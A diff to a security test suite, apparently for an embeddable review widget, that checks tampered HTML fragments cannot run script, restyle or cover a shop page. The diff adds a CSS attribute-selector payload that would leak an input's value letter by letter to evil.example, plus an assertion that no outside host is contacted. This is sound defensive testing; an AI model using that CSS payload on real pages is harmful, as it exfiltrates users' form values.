@@ -153,6 +153,7 @@ TAMPERED = {
     "style-element": (
         '<section class="rf-w"><style>body{background:#f00!important;font-size:40px!important}'
         "h1{display:none!important}:host{position:fixed;inset:0}"
+        "input[value^=a]{background-image:url(https://evil.example/leak-a)}"
         "</style><p>reviews</p></section>"
     ),
     "fixed-link": (
@@ -181,7 +182,8 @@ def test_a_tampered_fragment_cannot_run_restyle_or_cover_the_shop(site, shop, op
     ref = f"TAMPERED-{name}"
     out = site.output / "widgets" / "products" / f"{product_slug(ref)}.html"
     out.write_text(TAMPERED[name], encoding="utf-8")
-    link = '<p><a id="shop-link" href="#buy">Add to cart</a></p>'
+    # the shop's own link, and a token an attribute selector could leak letter by letter
+    link = '<p><a id="shop-link" href="#buy">Add to cart</a> <input name="t" value="abc"></p>'
     body = link + snippet(shop, ref)
     clean_url = page_with(shop, f"clean-{name}.html", link)
     baseline, _ = open_page(clean_url)
@@ -193,6 +195,7 @@ def test_a_tampered_fragment_cannot_run_restyle_or_cover_the_shop(site, shop, op
     settle(page)
     assert watch.dialogs == []
     assert page.evaluate("window.__pwned") is None
+    assert watch.blocked == [], "the fragment made the page request another host"
     assert page.evaluate(SHOP_LOOK) == look
     assert page.evaluate(HIT_LINK), "something covers the shop's own link"
     host = page.locator("[data-review-feed-product]")
@@ -204,7 +207,7 @@ def test_a_tampered_fragment_cannot_run_restyle_or_cover_the_shop(site, shop, op
             assert bad not in html.lower(), html
         assert "target=" not in html or 'target="_blank"' in html
         assert "style=" not in html or "width:" in html
-    assert watch.page_errors == [] and watch.blocked == []
+    assert watch.page_errors == []
 
 
 def test_links_keep_only_http_and_blank_targets_with_noopener(site, shop, open_page):
